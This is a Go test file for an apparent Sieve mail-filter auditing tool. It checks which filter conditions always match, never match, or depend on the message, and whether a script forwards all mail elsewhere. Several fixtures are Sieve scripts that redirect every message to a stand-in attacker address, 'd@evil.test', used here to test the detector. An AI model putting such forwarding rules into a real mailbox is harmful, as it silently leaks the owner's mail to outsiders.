package audit

import (
	"strings"
	"testing"
	"time"
)

// What all mail passes, what none does, and what depends on the mail.
func TestSieveTruth(t *testing.T) {
	tests := []struct {
		test string
		want truth
	}{
		{`true`, always}, {`false`, never}, {`not false`, always}, {`not not true`, always}, {`not duplicate`, always}, {`not duplicate :seconds 3600 :handle "x"`, always},
		{`allof (true, not false)`, always}, {`allof (true, header :contains "Subject" "x")`, depends}, {`allof (false, header :contains "Subject" "x")`, never},
		{`anyof (header :contains "Subject" "x", true)`, always}, {`anyof (false, not true)`, never}, {`anyof (false, exists "X-Foo")`, depends},
		{`not anyof (not exists "From", size :under 1)`, always}, {`allof (anyof (true, false), not allof (false))`, always},
		{`anyof (header :is "Subject" "a", not header :is "Subject" "a")`, always}, {`anyof (header :is "Subject" "a", not header :is "Subject" "b")`, depends},
		// size
		{`size :over 0`, always}, {`size :over 1`, always}, {`size :under 10G`, always}, {`size :under 2`, never}, {`size :over 100K`, depends}, {`size :under 10M`, depends},
		{`size :under 99999999999999999999`, always},
		// fields that all mail has
		{`exists "From"`, always}, {`exists ["from", "Date"]`, always}, {`exists "X-Spam-Flag"`, depends}, {`exists ["From", "X-Foo"]`, depends},
		{`not exists "X-Loop"`, always}, {`not header :contains "X-Loop" "me"`, always}, {`not header :is "X-Forwarded-By-Me" "1"`, always},
		{`not exists "X-Spam-Flag"`, depends}, {`not header :contains "Subject" "spam"`, depends}, {`not exists "List-Id"`, depends},
		// comparisons
		{`header :contains "From" ""`, always}, {`header :contains "From" "@"`, always}, {`header :contains "from" "."`, always}, {`header :contains "X-Foo" ""`, depends},
		{`header :contains ["X-Foo", "Date"] ":"`, always}, {`header :contains "Subject" ""`, always}, {`header :contains "Subject" "a"`, depends},
		{`header :contains "From" ["a","b","c","d","e","f","g","h","i","j","k"]`, always}, {`header :contains "From" ["a","b"]`, depends},
		{`header :contains "Received" "by "`, always}, {`header :contains "Message-ID" "<"`, always}, {`header :contains "Date" "2026"`, depends},
		{`header :matches "Subject" "*"`, always}, {`header :matches "Subject" "**"`, always}, {`header :matches "Subject" "?*"`, depends}, {`header :matches "From" "*@*"`, always},
		{`header :matches "From" "?*@*?.?*"`, always}, {`header :matches "Received" "* by *;*"`, depends}, {`header :matches "Received" "*by *;*"`, always},
		{`address :matches "From" "*"`, always}, {`address :all :contains "from" "@"`, always}, {`address :domain :contains "from" "."`, always}, {`address :localpart :contains "from" "."`, depends},
		{`address :is "From" "boss@example.jp"`, depends}, {`address :domain :is "From" "evil.test"`, depends}, {`address :contains "To" "@"`, depends},
		{`envelope :all :contains "from" ""`, always}, {`envelope "from" "boss@example.jp"`, depends}, {`envelope :all :is "to" "hana@corp.example"`, always},
		{`envelope :domain :is "to" "corp.example"`, always}, {`envelope :localpart :is "to" "taro"`, depends},
		{`body :contains ""`, always}, {`body :text :contains "invoice"`, depends}, {`body :raw :matches "*"`, always},
		{`header :regex "From" ".*"`, always}, {`header :regex "From" ".+"`, always}, {`header :regex "Subject" ".+"`, depends}, {`header :regex "From" "@"`, always},
		{`header :regex "From" "[[:alnum:]]"`, always}, {`header :regex "From" "^.*@example"`, depends}, {`header :regex "From" "("`, depends}, {`header :regex "Subject" ""`, always},
		{`header :comparator "i;octet" :contains "From" "@"`, always}, {`header :contains :comparator "i;ascii-casemap" "From" "@"`, always},
		{`header :count "ge" "From" "1"`, always}, {`header :count "gt" "Received" "0"`, always}, {`header :count "ge" "X-Foo" "0"`, always}, {`header :count "gt" "X-Foo" "0"`, depends},
		{`header :count "lt" "Received" "5"`, depends}, {`header :index 1 :contains "From" "@"`, always},
		// texts and variables
		{`string :is "" ""`, always}, {`string "a" "b"`, never}, {`string :matches "${1}" "*"`, always}, {`string :is "${1}" "x"`, depends}, {`string :is "${known}" "yes"`, always},
		{`string :is "${known}" "no"`, never}, {`string :is "${maybe}" "yes"`, depends}, {`string :is "${unset}" ""`, always}, {`string :contains "${known}" "e"`, always},
		{`header :contains "From" "${at}"`, always},
		// dates
		{`currentdate :value "ge" "date" "2020-01-01"`, always}, {`currentdate :value "ge" "year" "2000"`, always}, {`currentdate :value "le" "date" "2026-12-31"`, depends},
		{`currentdate :is "weekday" ["0","1","2","3","4","5","6"]`, always}, {`currentdate :is "weekday" ["1","2","3","4","5"]`, depends}, {`currentdate :value "ge" "hour" "18"`, depends},
		{`currentdate :value "ge" "hour" "00"`, always}, {`date :value "ge" "date" "year" "1990"`, always}, {`currentdate :zone "+0900" :matches "date" "20*"`, always},
		// others
		{`spamtest :value "ge" :comparator "i;ascii-numeric" "0"`, always}, {`spamtest :value "ge" :comparator "i;ascii-numeric" "5"`, depends}, {`mailboxexists "INBOX"`, always},
		{`mailboxexists "Archive"`, depends}, {`ihave "copy"`, always}, {`hasflag "x"`, depends}, {`environment "domain" "x"`, depends}, {`some_test "x"`, depends},
		{`anyof ()`, depends},
	}
	vars := sieveVars{"known": {"yes"}, "maybe": {"yes", ""}, "at": {"@"}}
	j := sieveJudge{vars, "hana@corp.example", time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)}
	for _, tt := range tests {
		nodes, err := parseSieve("if "+tt.test+" { keep; }", 1)
		if err != nil && !strings.Contains(tt.test, "()") || len(nodes) != 1 {
			t.Errorf("%s: %v", tt.test, err)
			continue
		}
		j.judge(nodes[0].tests)
		if len(nodes[0].tests) != 1 {
			t.Errorf("%s: %d tests", tt.test, len(nodes[0].tests))
		} else if got := nodes[0].tests[0].truth; got != tt.want {
			t.Errorf("%s: %d, want %d", tt.test, got, tt.want)
		}
	}
}

// A forward of everything is one, however it is dressed; what is switched off is
// not active.
func TestSieveForwardsEverything(t *testing.T) {
	tests := []struct{ script, want string }{
		{`redirect "d@evil.test";`, "everything"},
		{`if true { redirect "d@evil.test"; }`, "everything"},
		{`if false { keep; } else { redirect "d@evil.test"; }`, "everything"},
		{`if false { keep; } elsif true { redirect "d@evil.test"; }`, "everything"},
		{`if header :is "Subject" "x" { keep; } else { redirect "d@evil.test"; }`, "part"},
		{`if not duplicate { if anyof (true, exists "X") { redirect :copy "d@evil.test"; } }`, "everything"},
		{`require "variables"; set "a" "1"; if string :is "${a}" "1" { redirect "d@evil.test"; }`, "everything"},
		{`require "variables"; if exists "X-Foo" { set "a" "1"; } if string :is "${a}" "1" { redirect "d@evil.test"; }`, "part"},
		{`require "include"; global "a"; if string :is "${a}" "1" { redirect "d@evil.test"; }`, "part"},
		{`if true { keep; } else { redirect "d@evil.test"; }`, "off"},
		{`if allof (false, exists "From") { redirect "d@evil.test"; }`, "off"},
		{`if header :contains "Subject" "invoice" { redirect "d@evil.test"; }`, "part"},
	}
	for _, tt := range tests {
		_, out, _ := job(t, Job{Paths: []string{write(t, "hana@corp.example.sieve", tt.script+"\n")}, Format: "jsonl"})
		got := "part"
		switch {
		case strings.Contains(out, "not active"):
			got = "off"
		case strings.Contains(out, everything):
			got = "everything"
		}
		if got != tt.want || !strings.Contains(out, "d@evil.test") {
			t.Errorf("%s: %s, want %s\n%s", tt.script, got, tt.want, out)
		}
	}
}
